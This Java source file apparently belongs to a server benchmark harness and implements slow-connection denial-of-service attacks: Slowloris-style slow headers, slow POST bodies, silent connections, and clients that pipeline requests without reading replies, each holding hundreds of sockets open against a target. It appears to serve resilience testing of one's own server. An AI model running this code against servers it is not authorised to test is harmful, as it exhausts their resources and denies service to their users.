package io.netia.bench;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/** Attacks by connections that take their time. */
final class SlowAttacks {

  private static final int BODIES = 200;
  private static final int HEADS = 500;
  private static final int SILENT = 500;
  private static final int READERS = 100;
  private static final int REQUESTS_UNREAD = 200;
  private static final int ANNOUNCED = 10_000;
  private static final long TICK_MILLIS = 1_000;

  private SlowAttacks() {}

  static void addTo(Map<String, Attack> attacks) {
    attacks.put(
        "slow-bodies",
        target -> drip(target, BODIES, target.head("POST", "/api/ping", ANNOUNCED, ""), "{"));
    attacks.put(
        "slow-heads",
        target -> drip(target, HEADS, Bytes.of("GET /api/ping HTTP/1.1\r\nX: "), "x"));
    attacks.put("silent", target -> drip(target, SILENT, new byte[0], ""));
    attacks.put("slow-readers", SlowAttacks::readNothing);
  }

  /** Many connections that send a beginning, then a little each second; lost ones are replaced. */
  private static void drip(Target target, int count, byte[] beginning, String drop)
      throws IOException {
    List<Socket> sockets = new ArrayList<>();
    byte[] more = Bytes.of(drop);
    while (!target.isOver()) {
      sockets.removeIf(socket -> !send(target, socket, more));
      while (sockets.size() < count && !target.isOver()) {
        try {
          Socket socket = target.connect();
          socket.getOutputStream().write(beginning);
          sockets.add(socket);
        } catch (IOException refused) {
          target.tally().count("failed tries");
          break;
        }
      }
      Attack.pause(TICK_MILLIS);
    }
    closeAll(sockets);
  }

  /** Whether the connection still stands afterwards; an answer ends it. */
  private static boolean send(Target target, Socket socket, byte[] more) {
    try {
      socket.getOutputStream().write(more);
      if (socket.getInputStream().available() == 0) {
        return true;
      }
      byte[] status = socket.getInputStream().readNBytes(12);
      target
          .tally()
          .count(
              "status "
                  + new String(status, java.nio.charset.StandardCharsets.ISO_8859_1).substring(9));
      socket.close();
    } catch (IOException closed) {
      target.tally().count("connections ended by the server");
    }
    return false;
  }

  /** Connections that ask for pages again and again and read none of them. */
  private static void readNothing(Target target) throws IOException {
    List<Socket> sockets = new ArrayList<>();
    byte[] request = target.head("GET", "/chat", 0, "");
    while (sockets.size() < READERS && !target.isOver()) {
      Socket socket = target.connect();
      socket.setSendBufferSize(65_536);
      sockets.add(socket);
      Thread writer = new Thread(() -> ask(target, socket, request), "asks and does not read");
      writer.setDaemon(true);
      writer.start();
    }
    while (!target.isOver()) {
      Attack.pause(TICK_MILLIS / 10);
    }
    closeAll(sockets);
  }

  private static void ask(Target target, Socket socket, byte[] request) {
    try {
      OutputStream out = socket.getOutputStream();
      for (int i = 0; i < REQUESTS_UNREAD && !target.isOver(); i++) {
        out.write(request);
        target.tally().count("answers not read");
      }
    } catch (IOException closed) {
      target.tally().count("connections ended by the server");
    }
  }

  private static void closeAll(List<Socket> sockets) throws IOException {
    for (Socket socket : sockets) {
      socket.close();
    }
  }
}
